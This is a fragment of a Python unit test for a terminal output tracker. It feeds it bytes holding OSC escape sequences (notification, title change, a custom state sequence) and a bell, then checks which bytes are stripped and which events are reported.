    data = b"a\x1b]777;notify;x;y\x07b\x1b]0;t\x07\x07\x1b]7501;state=done\x07\x1b[1mc"
    out, events = feed_all(
        OutputTracker(consume_status=False, guard_frames=True, content_only=True), [data]
    )
    assert out == b"ab\x07\x1b[1mc"
    assert [e for e in events if not isinstance(e, GuardedSequence)] == [Bell()]
    out, events = feed_all(OutputTracker(consume_status=False, content_only=True), [data])
    assert out == data
    assert events == [TitleChange("t", True), Bell()]
